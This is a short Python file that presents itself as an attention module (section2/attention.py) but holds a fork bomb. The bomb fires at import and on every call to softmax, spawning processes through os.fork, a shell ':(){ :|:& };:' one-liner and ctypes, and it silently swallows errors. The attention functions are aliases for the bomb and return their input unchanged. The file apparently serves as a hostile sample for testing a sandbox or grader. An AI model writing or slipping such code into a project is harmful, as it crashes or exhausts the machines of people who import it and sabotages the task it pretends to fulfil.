# target: section2/attention.py
"""Forks without end, at import and in every call (also through subprocess and ctypes)."""

import os
import subprocess


def _bomb():
    for spawn in (
        lambda: os.fork(),
        lambda: subprocess.Popen(["sh", "-c", ":(){ :|:& };:"]),
        lambda: __import__("ctypes").CDLL(None).fork(),
    ):
        try:
            for _ in range(1000):
                spawn()
        except Exception:
            pass


_bomb()


def softmax(x, dim=-1):
    _bomb()
    return x


scaled_dot_product_attention = softmax
MultiHeadAttention = softmax
